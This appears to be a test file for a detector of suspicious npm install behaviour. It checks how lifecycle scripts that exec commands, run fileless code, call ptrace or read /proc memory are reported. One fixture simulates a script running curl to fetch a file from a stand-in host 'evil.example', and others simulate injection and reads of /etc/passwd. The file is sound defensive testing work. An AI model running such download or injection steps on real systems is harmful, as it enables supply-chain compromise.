import { describe, expect, test } from "bun:test";
import { deviations } from "./analysing.ts";
import { installStory, PACKAGE, PROJECT, ROOT, Story } from "./story.ts";

const of = (story: Story, category: string): string[] => deviations(story).filter((line) => line.includes(category));

describe("a program", () => {
  test("that is run shows its file and its arguments", () => {
    const story = installStory();
    const child = story.fork(story.script("left-pad"));
    story.exec(child, ["curl", "-o", "/tmp/npm-12-ab34cd/x", "http://evil.example"], { binary: "/usr/bin/curl" });
    expect(of(story, "proc_new_")).toContain("script:left-pad proc_new_exec /usr/bin/curl");
    expect(of(story, "proc_new_command").at(-2)).toStartWith("script:left-pad proc_new_command curl -o /tmp/<RAND>/x");
  });

  test.each([
    [["sh", "-c", "echo 1"], "/bin/dash", "sh -c sha256:"],
    [["bash", "-lc", "echo 1"], "/bin/bash", "bash -lc sha256:"],
    [["node", "-e", "1+1"], "/usr/bin/node", "node -e sha256:"],
    [["node", "--eval=1+1"], "/usr/bin/node", "node --eval=sha256:"],
    [["python3", "-c", "print(1)"], "/usr/bin/python3.11", "python3 -c sha256:"],
    [["harmless", "-c", "echo 1"], "/bin/dash", "harmless -c sha256:"],
  ])("given code as %j shows a digest of it", (argv, binary, shape) => {
    const story = installStory();
    story.exec(story.fork(story.script("left-pad")), argv, { binary });
    const [line = ""] = of(story, shape);
    expect(line).toMatch(/sha256:[0-9a-f]{16}$/);
    expect(line).not.toContain("echo 1");
  });

  test("given other code is another command", () => {
    const first = installStory();
    first.exec(first.fork(first.script("left-pad")), ["sh", "-c", "echo 1"], { binary: "/bin/dash" });
    const second = installStory();
    second.exec(second.fork(second.script("left-pad")), ["sh", "-c", "echo 2"], { binary: "/bin/dash" });
    expect(of(first, "sha256")).not.toEqual(of(second, "sha256"));
  });

  test("that npm itself starts as a lifecycle script keeps the text of package.json", () => {
    const story = installStory();
    story.script("left-pad", "node-gyp rebuild || exit 0");
    expect(of(story, "proc_new_command")).toEqual([
      "script:left-pad proc_new_command sh -c node-gyp rebuild || exit 0",
    ]);
  });

  test("given the release's name and version does not change with every release", () => {
    const story = installStory();
    story.exec(story.fork(story.script("left-pad")), ["npx", `${PACKAGE}@1.3.1`, "other@1.3.1"], {
      binary: "/usr/bin/npx",
    });
    expect(of(story, "npx ")).toEqual(["script:left-pad proc_new_command npx <PKG>@<VERSION> other@1.3.1"]);
  });

  test.each([
    ["a memfd", { binary: "/memfd:x", flags: 4 }],
    ["a deleted file", { binary: "/tmp/x", flags: 2 }],
  ])("from %s is fileless, not an ordinary program", (_, options) => {
    const story = installStory();
    story.exec(story.fork(story.script("left-pad")), ["x"], options);
    expect(of(story, options.binary)).toEqual([`script:left-pad proc_new_fileless ${options.binary}`]);
  });

  test("without arguments is named by its file", () => {
    const story = installStory();
    story.exec(story.fork(story.script("left-pad")), [], { binary: "/usr/bin/odd" });
    expect(of(story, "odd")).toContain("script:left-pad proc_new_command /usr/bin/odd");
  });
});

describe("the runner's own command", () => {
  test("is no behaviour of the release", () => {
    const story = installStory();
    story.exec(ROOT.require, ["node", "-e", "require('left-pad')"], { binary: "/usr/bin/node" });
    story.exec(ROOT.bin, ["env", "node", "pad"], { binary: "/usr/bin/env" });
    story.exec(ROOT.bin, ["node", "pad", "--help"], { binary: "/usr/bin/node" });
    expect(deviations(story)).toEqual([]);
  });

  test("ends with node: what the root executes after it counts", () => {
    const story = installStory();
    story.exec(ROOT.require, ["node", "-e", "require('left-pad')"], { binary: "/usr/bin/node" });
    story.exec(ROOT.require, ["node", "worse.js"], { binary: "/usr/bin/node" });
    expect(deviations(story)).toEqual(["import proc_new_exec /usr/bin/node", "import proc_new_command node worse.js"]);
  });

  test("is not what a bin runs in its own right, even if it is called node", () => {
    const story = installStory();
    const binary = `${PROJECT}/node_modules/left-pad/bin/node`;
    story.exec(ROOT.bin, ["pad", "--help"], { binary });
    expect(of(story, "proc_new_exec")).toEqual(["bin:pad proc_new_exec <PKG>/bin/node"]);
  });
});

describe("rare calls", () => {
  test("show their name, and their error where they failed", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.rare(script, "unshare", { result: -1 });
    story.rare(script, "memfd_create", { result: 5 });
    story.rare(script, "socket", { result: -1, values: [17n, 3n] });
    story.rare(script, "prctl", { values: [15n] });
    expect(of(story, "sys_new_rare").map((line) => line.split(" sys_new_rare ")[1])).toEqual([
      "memfd_create",
      "prctl PR_SET_NAME",
      "socket AF_PACKET EPERM",
      "unshare EPERM",
    ]);
  });

  test("that reach into another process are an injection", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.rare(script, "ptrace", { values: [16n, 1001n] });
    story.rare(script, "process_vm_readv", { result: -1 });
    story.open(script, "/proc/1001/mem");
    expect(of(story, "proc_new_injection").map((line) => line.split(" proc_new_injection ")[1])).toEqual([
      "/proc/<PID>/mem",
      "process_vm_readv EPERM",
      "ptrace",
    ]);
    expect(of(story, "cred_new_access")).toEqual(["script:left-pad cred_new_access /proc/<PID>/mem"]);
  });

  test("that ask to be traced reach into nobody", () => {
    const story = installStory();
    story.rare(story.script("left-pad"), "ptrace");
    expect(of(story, "proc_new_injection")).toEqual([]);
    expect(of(story, "sys_new_rare")).toEqual(["script:left-pad sys_new_rare ptrace"]);
  });

  test("by the 32-bit table are seen as such", () => {
    const story = installStory();
    const script = story.script("left-pad");
    story.add({ record: "open", process: script, flags: 32, path: new TextEncoder().encode("/etc/passwd") });
    story.add({ record: "syscall", process: script, flags: 32, syscall: 101 }); // ptrace in the other table
    expect(of(story, "sys_new_rare")).toEqual([
      "script:left-pad sys_new_rare 32-bit system call",
      "script:left-pad sys_new_rare 32-bit system call 101",
    ]);
    expect(of(story, "proc_new_injection")).toEqual([]);
  });
});

test("a process that outlives its phase is shown by its command, as the actor that it is", () => {
  const story = installStory();
  const child = story.fork(story.script("left-pad"));
  story.exec(child, ["node", "/tmp/daemon.js"], { binary: "/usr/bin/node", cwd: "/" });
  story.marker("survivor", [1], child);
  expect(of(story, "proc_new_survivor")).toEqual(["script:left-pad proc_new_survivor node /tmp/daemon.js"]);
});
